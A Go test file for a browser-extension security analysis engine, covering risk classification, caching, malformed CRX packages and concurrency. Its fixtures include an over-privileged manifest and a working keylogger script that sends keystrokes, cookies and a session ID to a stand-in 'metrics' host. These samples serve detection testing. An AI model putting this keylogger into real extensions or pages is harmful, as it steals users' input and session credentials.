package engine

import (
	"archive/zip"
	"bytes"
	"context"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/mock"
	"github.com/stretchr/testify/require"

	"github.com/extension-analysis/extension-analysis-go/internal/analysis"
	"github.com/extension-analysis/extension-analysis-go/internal/classifier"
	"github.com/extension-analysis/extension-analysis-go/internal/crx"
)

const (
	safeManifest = `{
  "manifest_version": 3,
  "name": "Reading List",
  "version": "2.1.0",
  "permissions": ["storage", "activeTab"],
  "content_scripts": [{"matches": ["https://news.example.com/*"], "js": ["content.js"]}]
}`

	overPrivilegedManifest = `{
  "manifest_version": 2,
  "name": "Free VPN Helper",
  "version": "0.9",
  "permissions": ["tabs", "cookies", "<all-urls>", "webRequest"],
  "content_scripts": [{"matches": ["<all_urls>"], "run_at": "document_start", "js": ["inject.js"]}],
  "content_security_policy": "script-src 'self' 'unsafe-eval'; object-src 'self'",
  "background": {"scripts": ["bg.js"], "persistent": true}
}`

	keyloggerScript = `var captured = [];
document.addEventListener('keydown', function (e) {
  captured.push(e.key);
});
setInterval(function () {
  var payload = JSON.stringify({ keys: captured, cookie: document.cookie, session: localStorage.getItem('sid') });
  fetch('https://metrics.example.org/v1/ingest', { method: 'POST', body: payload });
  captured = [];
}, 10000);
`
)

func newTestEngine(t *testing.T, opts Options) *Engine {
	t.Helper()
	logger := logrus.New()
	logger.SetOutput(io.Discard)
	opts.Logger = logger
	if opts.Limits == (crx.Limits{}) {
		opts.Limits = crx.DefaultLimits
	}
	e, err := New(opts)
	require.NoError(t, err)
	return e
}

func TestAnalyze_SafeExtension(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	report, err := e.Analyze(context.Background(), Request{ArtifactID: "reading-list", Manifest: []byte(safeManifest)})
	require.NoError(t, err)

	assert.Equal(t, classifier.LevelSafe, report.Level())
	assert.Nil(t, report.Static)
	assert.NotNil(t, report.Heuristic)
	assert.Equal(t, "reading-list", report.ArtifactID)
}

func TestAnalyze_OverPrivilegedExtension(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	report, err := e.Analyze(context.Background(), Request{Manifest: []byte(overPrivilegedManifest)})
	require.NoError(t, err)

	assert.Contains(t, []classifier.Level{classifier.LevelHigh, classifier.LevelCritical}, report.Level())
	assert.True(t, report.Classification.HasCategory(classifier.CategoryExcessivePermission))
	assert.True(t, report.Classification.HasCategory(classifier.CategoryCodeExecution))
}

func TestAnalyze_KeyloggerScript(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	report, err := e.Analyze(context.Background(), Request{
		Scripts: analysis.ScriptBundle{{Name: "content.js", Text: keyloggerScript, Provenance: analysis.ProvenanceDeclared}},
	})
	require.NoError(t, err)

	assert.True(t, report.Classification.HasCategory(classifier.CategoryDataTheft))
	assert.True(t, report.Classification.HasCategory(classifier.CategoryHeuristic))
	assert.GreaterOrEqual(t, report.Heuristic.HeuristicScore, 40)
	assert.Equal(t, 1, report.Static.Count("input_capture"))
	assert.Positive(t, report.Network.BehaviorPatterns.Exfiltration)
}

func TestAnalyze_EmptyRequest(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	_, err := e.Analyze(context.Background(), Request{ArtifactID: "nothing"})
	assert.ErrorIs(t, err, ErrEmptyRequest)
}

func TestAnalyze_CanceledContext(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := e.Analyze(ctx, Request{Manifest: []byte(safeManifest)})
	assert.ErrorIs(t, err, context.Canceled)
}

func TestAnalyze_InvalidManifestIsFailSafe(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	report, err := e.Analyze(context.Background(), Request{Manifest: []byte(`["not", "an", "object"]`)})
	require.Error(t, err)
	assert.ErrorIs(t, err, analysis.ErrInvalidManifest)

	require.NotNil(t, report)
	assert.Equal(t, 100, report.Manifest.RiskScore)
	assert.NotEmpty(t, report.Errors)
	assert.NotEqual(t, classifier.LevelSafe, report.Level())
}

func TestAnalyze_OversizedBundleRejected(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	huge := strings.Repeat("a", 6<<20)
	report, err := e.Analyze(context.Background(), Request{
		Manifest: []byte(safeManifest),
		Scripts:  analysis.ScriptBundle{{Name: "huge.js", Text: huge}},
	})
	require.Error(t, err)
	assert.ErrorIs(t, err, analysis.ErrInputTooLarge)
	require.NotNil(t, report)
	assert.Equal(t, 100, report.Static.RiskScore)
	assert.GreaterOrEqual(t, report.Score(), 0)
	assert.LessOrEqual(t, report.Score(), 100)
}

func buildCRX(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for name, body := range files {
		w, err := zw.Create(name)
		require.NoError(t, err)
		_, err = w.Write([]byte(body))
		require.NoError(t, err)
	}
	require.NoError(t, zw.Close())
	return crx.Encode(crx.MagicCurrent, 3, nil, buf.Bytes())
}

func TestAnalyze_Package(t *testing.T) {
	data := buildCRX(t, map[string]string{
		"manifest.json": `{"manifest_version": 3, "name": "Pkg", "permissions": ["storage"],
			"content_scripts": [{"matches": ["https://example.com/*"], "js": ["content.js"]}]}`,
		"content.js": keyloggerScript,
	})

	e := newTestEngine(t, DefaultOptions())
	report, err := e.Analyze(context.Background(), Request{ArtifactID: "pkg", Package: data})
	require.NoError(t, err)

	require.NotNil(t, report.Package)
	require.NotNil(t, report.Manifest)
	assert.Same(t, report.Package.ManifestResult, report.Manifest)
	require.NotNil(t, report.Static)
	assert.Len(t, report.Static.Scripts, 1)
	assert.True(t, report.Classification.HasCategory(classifier.CategoryDataTheft))
	assert.False(t, report.Heuristic.Has("manifest_only_degraded"))
}

func TestAnalyze_MalformedPackage(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	report, err := e.Analyze(context.Background(), Request{Package: []byte("Cr")})
	require.Error(t, err)
	assert.True(t, analysis.IsMalformedContainer(err))

	require.NotNil(t, report)
	assert.Equal(t, 100, report.Manifest.RiskScore)
	assert.True(t, report.Manifest.Invalid)
	assert.NotEqual(t, classifier.LevelSafe, report.Level())
}

func TestAnalyze_CacheHit(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	req := Request{ArtifactID: "first", Manifest: []byte(overPrivilegedManifest)}

	first, err := e.Analyze(context.Background(), req)
	require.NoError(t, err)
	assert.False(t, first.Cached)
	assert.Equal(t, 1, e.CacheLen())

	req.ArtifactID = "second"
	second, err := e.Analyze(context.Background(), req)
	require.NoError(t, err)
	assert.True(t, second.Cached)
	assert.Equal(t, "second", second.ArtifactID)
	assert.Equal(t, "first", first.ArtifactID)
	assert.Equal(t, first.Classification, second.Classification)

	e.PurgeCache()
	assert.Equal(t, 0, e.CacheLen())
}

// TestAnalyze_CacheHitIsolated 修改命中结果不影响缓存中的报告
func TestAnalyze_CacheHitIsolated(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	req := Request{ArtifactID: "a", Manifest: []byte(overPrivilegedManifest)}

	first, err := e.Analyze(context.Background(), req)
	require.NoError(t, err)
	wantScore := first.Classification.OverallScore
	wantCategories := len(first.Classification.Categories)

	first.Classification.OverallScore = 0
	first.Classification.Categories = nil
	first.Errors = append(first.Errors, "mutated")

	hit, err := e.Analyze(context.Background(), req)
	require.NoError(t, err)
	require.True(t, hit.Cached)
	hit.Classification.ComponentScores[classifier.ComponentManifest] = -1
	hit.Classification.Recommendations = append(hit.Classification.Recommendations[:0], classifier.Recommendation{Text: "mutated"})

	again, err := e.Analyze(context.Background(), req)
	require.NoError(t, err)
	assert.Equal(t, wantScore, again.Classification.OverallScore)
	assert.Len(t, again.Classification.Categories, wantCategories)
	assert.Empty(t, again.Errors)
	assert.NotEqual(t, -1, again.Classification.ComponentScores[classifier.ComponentManifest])
	for _, r := range again.Classification.Recommendations {
		assert.NotEqual(t, "mutated", r.Text)
	}
}

// TestAnalyze_RecoveredManifestNotCached 容器损坏但找回 manifest 时报告带错误、不缓存、不判为安全
func TestAnalyze_RecoveredManifestNotCached(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	data := append([]byte("XXXX"), safeManifest...)

	for i := 0; i < 2; i++ {
		report, err := e.Analyze(context.Background(), Request{ArtifactID: "broken", Package: data})
		require.Error(t, err)
		assert.True(t, analysis.IsMalformedContainer(err))

		require.NotNil(t, report)
		assert.False(t, report.Cached)
		require.NotNil(t, report.Package)
		assert.True(t, report.Package.ManifestOnly())
		assert.GreaterOrEqual(t, report.Package.RiskScore, crx.DegradedFloorScore)
		require.NotNil(t, report.Manifest)
		assert.False(t, report.Manifest.Invalid)
		assert.NotEmpty(t, report.Errors)
		assert.NotContains(t, []classifier.Level{classifier.LevelSafe, classifier.LevelLow}, report.Level())
	}
	assert.Equal(t, 0, e.CacheLen())
}

func TestAnalyze_CacheEviction(t *testing.T) {
	e := newTestEngine(t, Options{CacheSize: 2})
	for i, doc := range []string{`{"name": "a"}`, `{"name": "b"}`, `{"name": "c"}`} {
		_, err := e.Analyze(context.Background(), Request{Manifest: []byte(doc)})
		require.NoError(t, err, i)
	}
	assert.Equal(t, 2, e.CacheLen())

	report, err := e.Analyze(context.Background(), Request{Manifest: []byte(`{"name": "a"}`)})
	require.NoError(t, err)
	assert.False(t, report.Cached, "oldest entry evicted")
}

func TestAnalyze_CacheDisabled(t *testing.T) {
	e := newTestEngine(t, Options{CacheSize: 0})
	req := Request{Manifest: []byte(safeManifest)}
	_, err := e.Analyze(context.Background(), req)
	require.NoError(t, err)
	report, err := e.Analyze(context.Background(), req)
	require.NoError(t, err)
	assert.False(t, report.Cached)
	assert.Equal(t, 0, e.CacheLen())
}

func TestRequest_Key(t *testing.T) {
	a := Request{ArtifactID: "x", Manifest: []byte(`{}`)}
	b := Request{ArtifactID: "y", Manifest: []byte(`{}`)}
	assert.Equal(t, a.Key(), b.Key())

	// 字段边界不同的内容不能得到相同的键
	c := Request{Manifest: []byte("ab"), Package: []byte("c")}
	d := Request{Manifest: []byte("a"), Package: []byte("bc")}
	assert.NotEqual(t, c.Key(), d.Key())
}

func TestNew_InvalidCalibration(t *testing.T) {
	_, err := New(Options{Calibration: &classifier.Calibration{}})
	assert.ErrorIs(t, err, classifier.ErrInvalidCalibration)
}

// TestAnalyze_Concurrent 并发分析互不影响
func TestAnalyze_Concurrent(t *testing.T) {
	e := newTestEngine(t, DefaultOptions())
	docs := []string{safeManifest, overPrivilegedManifest}
	want := make([]int, len(docs))
	for i, doc := range docs {
		r, err := e.Analyze(context.Background(), Request{Manifest: []byte(doc)})
		require.NoError(t, err)
		want[i] = r.Score()
	}

	done := make(chan struct{})
	for n := 0; n < 16; n++ {
		go func(n int) {
			defer func() { done <- struct{}{} }()
			r, err := e.Analyze(context.Background(), Request{Manifest: []byte(docs[n%2])})
			assert.NoError(t, err)
			assert.Equal(t, want[n%2], r.Score())
		}(n)
	}
	for n := 0; n < 16; n++ {
		<-done
	}
}

type mockSource struct{ mock.Mock }

func (m *mockSource) Fetch(ctx context.Context, id string) (*Request, error) {
	args := m.Called(ctx, id)
	if r := args.Get(0); r != nil {
		return r.(*Request), args.Error(1)
	}
	return nil, args.Error(1)
}

type mockStore struct{ mock.Mock }

func (m *mockStore) Save(ctx context.Context, report *Report) error {
	return m.Called(ctx, report).Error(0)
}

func TestAnalyzeArtifact(t *testing.T) {
	ctx := context.Background()
	source := new(mockSource)
	store := new(mockStore)
	source.On("Fetch", ctx, "ext-1").Return(&Request{Manifest: []byte(safeManifest)}, nil)
	store.On("Save", ctx, mock.MatchedBy(func(r *Report) bool { return r.ArtifactID == "ext-1" })).Return(nil)

	e := newTestEngine(t, DefaultOptions())
	report, err := e.AnalyzeArtifact(ctx, source, store, "ext-1")
	require.NoError(t, err)
	assert.Equal(t, classifier.LevelSafe, report.Level())
	source.AssertExpectations(t)
	store.AssertExpectations(t)
}

func TestAnalyzeArtifact_Errors(t *testing.T) {
	ctx := context.Background()
	e := newTestEngine(t, DefaultOptions())

	source := new(mockSource)
	source.On("Fetch", ctx, "missing").Return(nil, errors.New("not found"))
	_, err := e.AnalyzeArtifact(ctx, source, nil, "missing")
	assert.ErrorContains(t, err, "not found")

	source.On("Fetch", ctx, "ext-2").Return(&Request{Manifest: []byte(safeManifest)}, nil)
	store := new(mockStore)
	store.On("Save", ctx, mock.Anything).Return(errors.New("disk full"))
	report, err := e.AnalyzeArtifact(ctx, source, store, "ext-2")
	require.Error(t, err)
	assert.ErrorContains(t, err, "disk full")
	assert.NotNil(t, report)
}
